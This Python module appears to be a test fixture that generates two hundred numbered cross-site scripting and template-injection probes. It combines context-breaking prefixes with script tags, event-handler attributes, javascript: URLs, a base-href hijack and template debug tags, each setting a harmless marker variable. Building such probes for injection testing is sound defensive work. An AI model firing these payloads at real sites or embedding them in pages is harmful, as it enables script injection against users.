"""Two hundred texts that try to become markup or code in a page: ten ways out of a place, twenty things to do there.

Each carries `MARK` and its number, so that wherever it lands in a page it can be found, and told what it has become.
"""

from __future__ import annotations

MARK = "zqmark"
RUN = f"window.{MARK}=1"

OUT_OF = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</bdi>", "]]>", "\u2028`/>")
DO = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<a href=javascript:{RUN}>here</a>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>*{{background:url(x?{MARK})}}</style>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<body onload={RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<base href=//{MARK}/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"{{{{ {MARK}|safe }}}}{{% debug %}}",
    f"<video><source onerror={RUN}></video>",
    f"javascript:{RUN}",
    f" onmouseover={RUN} {MARK}=",
    f"<template><script>{RUN}</script></template>",
    f'<div hx-get="/{MARK}" hx-trigger="load" hx-on:load="{RUN}">x</div>',
)
PAYLOADS = tuple(
    f"{MARK}{10 * number + way:03} {out}{do}" for number, do in enumerate(DO) for way, out in enumerate(OUT_OF)
)
ALL = " ".join(PAYLOADS)


def parts(longest: int) -> tuple[str, ...]:
    """All payloads in texts of at most `longest` characters."""
    found = [""]
    for one in PAYLOADS:
        joined = f"{found[-1]} {one}".strip()
        if len(joined) <= longest:
            found[-1] = joined
        else:
            found.append(one)
    return tuple(found)
